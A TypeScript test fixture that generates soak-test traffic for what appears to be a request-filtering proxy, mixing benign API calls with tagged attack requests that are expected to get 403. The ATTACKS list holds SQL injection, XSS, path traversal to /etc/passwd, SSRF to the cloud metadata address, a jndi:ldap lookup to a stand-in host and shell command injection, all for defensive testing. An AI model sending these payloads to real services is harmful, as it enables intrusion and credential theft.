// Mixed traffic for the soak test, the same on every run: nine requests in ten as clients of an API send them, one in ten an attack.
import { ordersJson, randomNumbers, rawRequest } from "../../bench/payloads.ts";
import type { LoadRequest } from "../../bench/load.ts";

const JSON_TYPE = "content-type: application/json";
const FORM_TYPE = "content-type: application/x-www-form-urlencoded";
const DOCUMENTS = [1024, 2048, 8192, 30_000].map((size, seed) => ordersJson(size, seed + 1));
const SEARCHES = [
  "O%27Brien",
  "garden+table",
  "select%20oak%20and%20pine",
  "50%25+off",
  "caf%C3%A9",
  "rock%27n%27roll",
];

/** What in an attack is looked for in the bytes that reached the upstream. */
export const ATTACK_MARK = "attacker-7f3a";

type Make = (i: number) => Buffer;

const BENIGN: readonly Make[] = [
  (i) => rawRequest("GET", `/api/items?q=${SEARCHES[i % SEARCHES.length]}&page=${i % 40}&sort=price`),
  (i) => rawRequest("GET", `/api/items/${i}`),
  (i) => rawRequest("POST", "/api/orders", [JSON_TYPE], DOCUMENTS[i % DOCUMENTS.length]),
  (i) =>
    rawRequest(
      "PUT",
      `/api/items/${i}`,
      [JSON_TYPE],
      `{"name":"Lamp ${i}","note":"It's fine; keep it.","price":${i / 4}}`,
    ),
  (i) =>
    rawRequest(
      "PATCH",
      `/api/items/${i}`,
      ["content-type: application/vnd.api+json"],
      `{"data":{"id":"${i}","type":"items"}}`,
    ),
  (i) => rawRequest("DELETE", `/api/items/${i}`),
  (i) =>
    rawRequest(
      "POST",
      "/api/contact",
      [FORM_TYPE],
      `name=Miles+O%27Brien&subject=Order+${i}&text=Where+is+it%3F+Thanks%21`,
    ),
];

const ATTACKS: readonly Make[] = [
  (i) =>
    rawRequest(
      "POST",
      "/api/users",
      [JSON_TYPE],
      `{"m":"${ATTACK_MARK}","user":{"id":${i},"name":"x' OR 1=1 -- "}}`,
    ),
  (i) => rawRequest("GET", `/api/items?m=${ATTACK_MARK}&q=%3Cimg%20src=x%20onerror=alert(${i})%3E`),
  () => rawRequest("GET", `/api/items?m=${ATTACK_MARK}&f=../../../../etc/passwd`),
  () => rawRequest("GET", `/api/items?m=${ATTACK_MARK}&u=http://169.254.169.254/latest/meta-data/`),
  () => rawRequest("POST", "/api/login", [JSON_TYPE], `{"m":"${ATTACK_MARK}","a":"\${jndi:ldap://x/a}"}`),
  (i) =>
    rawRequest(
      "POST",
      "/api/contact",
      [FORM_TYPE],
      `m=${ATTACK_MARK}&n=${i}&name=${encodeURIComponent("; cat /etc/passwd")}`,
    ),
  () =>
    rawRequest("GET", `/api/items?m=${ATTACK_MARK}`, [
      "user-agent: sqlmap/1.8.4#stable (https://sqlmap.org)",
    ]),
];

/** `count` requests; every tenth is an attack and expects 403, the others 200. */
export function soakTraffic(count: number): LoadRequest[] {
  const random = randomNumbers(20);
  return Array.from({ length: count }, (_, i) => {
    const attack = i % 10 === 9;
    const from = attack ? ATTACKS : BENIGN;
    return { bytes: from[Math.floor(random() * from.length)]!(i), status: attack ? 403 : 200 };
  });
}
